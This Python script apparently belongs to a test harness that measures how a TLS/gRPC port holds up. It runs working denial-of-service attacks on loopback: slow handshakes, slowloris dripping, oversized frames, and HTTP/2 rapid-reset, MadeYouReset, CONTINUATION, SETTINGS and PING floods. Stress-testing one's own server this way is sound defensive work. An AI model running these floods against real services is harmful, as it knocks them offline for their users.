#!/usr/bin/env python3
"""What strangers, and holders of a stolen certificate, may do to a TLS port. A process of its own, so that who attacks
does not slow who is honest.

usage: port_attacks.py ATTACK HOST PORT FOLDER SECONDS

thief.pem, thief.key and ca.pem lie in FOLDER; strangers don't use the former. Prints one line of JSON: what was
done, and how often the port closed a connection by itself.
"""
import asyncio
import collections
import json
import logging
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

CONNECTIONS = 2000
STRANGERS = [f"127.0.7.{number}" for number in range(1, 101)]  # a hundred machines
THIEF = "127.0.8.1"                                           # one machine with a certificate
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
CALL = [(":method", "POST"), (":scheme", "https"), (":path", "/grpc.health.v1.Health/Check"), (":authority", "a"),
        ("content-type", "application/grpc"), ("te", "trailers")]


class Attack:
    def __init__(self, host, port, folder, seconds):
        self.host, self.port, self.folder = host, port, folder
        self.end = time.monotonic() + seconds
        self.counts = collections.Counter()

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    def context(self, protocol, with_certificate=True):
        context = ssl.create_default_context(cafile=os.path.join(self.folder, "ca.pem"))
        context.check_hostname = False
        context.set_alpn_protocols([protocol])
        if with_certificate:
            context.load_cert_chain(os.path.join(self.folder, "thief.pem"), os.path.join(self.folder, "thief.key"))
        return context

    async def connect(self, source, context=None):
        wait = max(0.1, min(15.0, self.end - time.monotonic()))
        return await asyncio.wait_for(asyncio.open_connection(self.host, self.port, ssl=context,
                                                              local_addr=(source, 0), limit=2**20), wait)

    async def on_many(self, visit, count, sources, pause=(0.2, 1.0)):
        """`count` visitors, each of which comes again when it is sent away, until the time is up."""
        async def come_again(number):
            while self.goes_on:
                self.counts["visits"] += 1
                writer = None
                try:
                    writer = await visit(sources[number % len(sources)])
                except (OSError, ssl.SSLError, asyncio.TimeoutError, asyncio.IncompleteReadError) as problem:
                    self.counts["sent away: " + type(problem).__name__] += 1
                finally:
                    if writer:
                        writer.transport.abort()
                await asyncio.sleep(random.uniform(*pause))
        await asyncio.gather(*(come_again(number) for number in range(count)))

    async def until_closed(self, reader, most=1e9):
        """True when the other end has closed by then."""
        try:
            while await asyncio.wait_for(reader.read(65536), max(0.05, min(most, self.end - time.monotonic()))):
                pass
        except asyncio.TimeoutError:
            return False
        except (OSError, ssl.SSLError):
            pass
        self.counts["closed by the port"] += 1
        return True

    async def drip(self, reader, writer, content):
        """One byte every half second, for as long as the other end bears it."""
        for position in range(len(content)):
            writer.write(content[position:position + 1])
            await writer.drain()
            self.counts["bytes dripped"] += 1
            if not self.goes_on or await self.until_closed(reader, 0.5):
                return
        await self.until_closed(reader)


# ---- strangers ----

async def slow_handshakes(attack):
    """A third says nothing, a third drips a hello, a third stops after it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    beginning = attack.context("h2").wrap_bio(incoming, outgoing, server_hostname="a")
    try:
        beginning.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()

    async def visit(source):
        reader, writer = await attack.connect(source)
        kind = random.randrange(3)
        if kind == 1:
            await attack.drip(reader, writer, hello)
        elif kind == 2:
            writer.write(hello)
        await attack.until_closed(reader)
        return writer
    await attack.on_many(visit, CONNECTIONS, STRANGERS)


async def random_bytes(attack):
    async def visit(source):
        reader, writer = await attack.connect(source)
        record = random.choice((b"", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x16\x03\x03\xff\xff",
                                b"\x17\x03\x03\x40\x00", b"\x15\x03\x03\x00\x02", b"\x80\x2e\x01\x03\x01"))
        writer.write(record + random.randbytes(random.choice((1, 100, 5000, 60000))))
        await attack.until_closed(reader, 8)
        return writer
    await attack.on_many(visit, 200, STRANGERS)


async def plain_http(attack):
    async def visit(source):
        reader, writer = await attack.connect(source)
        writer.write(random.choice((b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", PREFACE, b"SSH-2.0-x\r\n", b"\n" * 1000)))
        if not await attack.until_closed(reader, 8):
            attack.counts["left open"] += 1
        return writer
    await attack.on_many(visit, 200, STRANGERS)


async def no_certificates(attack):
    """Each makes the port sign, which is what costs, and then has nothing to show."""
    context = attack.context("h2", with_certificate=False)

    async def visit(source):
        reader, writer = await attack.connect(source, context)
        await attack.until_closed(reader, 8)
        return writer
    await attack.on_many(visit, 200, STRANGERS)


# ---- holders of a certificate ----

async def slow_requests(attack):
    contexts = {protocol: attack.context(protocol) for protocol in ("h2", "http/1.1")}
    head = b"POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: a\r\nContent-Type: application/proto\r\n"

    async def visit(source):
        protocol = random.choice(tuple(contexts))
        reader, writer = await attack.connect(source, contexts[protocol])
        attack.counts["admitted"] += 1
        if protocol == "h2":
            request = HeadersFrame(1, hpack.Encoder().encode(CALL), flags=["END_HEADERS"]).serialize()
            await attack.drip(reader, writer, PREFACE + request)
        elif random.random() < 0.5:
            await attack.drip(reader, writer, head + b"X-Slow: " + b"a" * 200)
        else:
            writer.write(head + b"Content-Length: 1000\r\n\r\n")
            await attack.drip(reader, writer, b"\x00" * 1000)
        return writer
    # Not sooner again: who attacks would have no time left to drip.
    await attack.on_many(visit, CONNECTIONS, [THIEF], pause=(4, 8))


async def oversized(attack):
    """Frames, headers, messages and bodies far beyond every maximum."""
    contexts = {protocol: attack.context(protocol) for protocol in ("h2", "http/1.1")}
    large = b"z" * 200_000
    open_call = HeadersFrame(1, hpack.Encoder().encode(CALL), flags=["END_HEADERS"]).serialize()
    shapes = [
        ("h2", PREFACE + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + large),
        ("h2", PREFACE + b"\xff\xff\xff\x01\x04\x00\x00\x00\x01" + large),
        ("h2", PREFACE + HeadersFrame(1, hpack.Encoder().encode(CALL + [("x", "y" * 15_000)]),
                                      flags=["END_HEADERS"]).serialize()),
        ("h2", PREFACE + open_call + DataFrame(1, b"\x00\xff\xff\xff\xff" + b"m" * 16_000).serialize()),
        ("h2", PREFACE + open_call + b"".join(DataFrame(1, b"\x00" * 16_384).serialize() for _ in range(100))),
        ("http/1.1", b"GET / HTTP/1.1\r\nHost: a\r\nX: " + large + b"\r\n\r\n"),
        ("http/1.1", b"GET /" + large + b" HTTP/1.1\r\n\r\n"),
        ("http/1.1", b"POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: a\r\nContent-Type: application/proto\r\n"
                     b"Content-Length: 18446744073709551615\r\n\r\n" + large),
        ("http/1.1", b"POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: a\r\nContent-Type: application/proto\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n" + b"FFFFF\r\n" + large),
    ]

    async def visit(source):
        protocol, content = random.choice(shapes)
        reader, writer = await attack.connect(source, contexts[protocol])
        attack.counts["admitted"] += 1
        writer.write(content)
        await attack.until_closed(reader, 8)
        return writer
    await attack.on_many(visit, 60, [THIEF])


def flood(frames, reads=True):
    """An attack: what `frames(streams)` makes again and again, on eight connections, as fast as the port takes it."""
    async def run(attack):
        context = attack.context("h2")

        async def visit(source):
            reader, writer = await attack.connect(source, context)
            attack.counts["admitted"] += 1
            reading = asyncio.ensure_future(attack.until_closed(reader)) if reads else None
            if not reads:
                writer.transport.pause_reading()
            try:
                await pour(attack, writer, frames)
            finally:
                if reading:
                    await asyncio.wait([reading], timeout=1)
                    reading.cancel()
            return writer
        await attack.on_many(visit, 8, [THIEF])
    return run


async def pour(attack, writer, frames):
    writer.write(PREFACE)
    streams = iter(range(1, 2**31, 2))
    while attack.goes_on and not writer.transport.is_closing():
        writer.write(b"".join(frames(streams) for _ in range(50)))
        attack.counts["frames at least"] += 50
        await asyncio.wait_for(writer.drain(), max(0.1, attack.end - time.monotonic()))
        await asyncio.sleep(0)


def request_frame(stream, flags=("END_HEADERS",)):
    return HeadersFrame(stream, hpack.Encoder().encode(CALL), flags=list(flags)).serialize()


def reset_after_request(streams):
    stream = next(streams)
    return request_frame(stream) + RstStreamFrame(stream, error_code=8).serialize()


def provoked_reset(streams):
    """The port itself resets: a window that overflows (MadeYouReset)."""
    stream = next(streams)
    return request_frame(stream) + WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()


def endless_headers(streams):
    stream = next(streams)
    return request_frame(stream, ()) if stream == 1 else ContinuationFrame(1, b"").serialize()


def many_settings(streams):
    return SettingsFrame(0, settings={4: random.randrange(1, 2**31)}).serialize()


def table_churn(streams):
    return SettingsFrame(0, settings={1: random.randrange(2**16)}).serialize() + request_frame(next(streams))


FLOODS = {
    "rapid_reset": reset_after_request,
    "provoked_resets": provoked_reset,
    "continuation": endless_headers,
    "settings": many_settings,
    "settings_and_requests": table_churn,
    "ping": lambda streams: PingFrame(0, opaque_data=b"12345678").serialize(),
    "window_updates": lambda streams: WindowUpdateFrame(0, window_increment=1).serialize(),
    "priorities": lambda streams: PriorityFrame(1 + 2 * random.randrange(1000), depends_on=0,
                                                stream_weight=1).serialize(),
    "requests": lambda streams: request_frame(next(streams), ("END_HEADERS", "END_STREAM")),
    "random_frames": lambda streams: struct.pack(">I", random.randrange(300))[1:] + random.randbytes(6 + 300),
}

ATTACKS = {function.__name__: function for function in (slow_handshakes, random_bytes, plain_http, no_certificates,
                                                        slow_requests, oversized)}
ATTACKS.update({f"flood_of_{name}": flood(frames) for name, frames in FLOODS.items()})
ATTACKS["flood_of_requests_never_read"] = flood(FLOODS["requests"], reads=False)
ATTACKS["flood_of_pings_never_read"] = flood(FLOODS["ping"], reads=False)


def main():
    name, host, port, folder, seconds = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
    attack = Attack(host, int(port), folder, float(seconds))
    loop = asyncio.new_event_loop()
    logging.disable(logging.WARNING)
    loop.set_exception_handler(lambda *_: None)  # connections that end in the middle are what this is about
    loop.run_until_complete(ATTACKS[name](attack))
    print(json.dumps(attack.counts), flush=True)
    os._exit(0)  # without waiting for what is still open


if __name__ == "__main__":
    main()
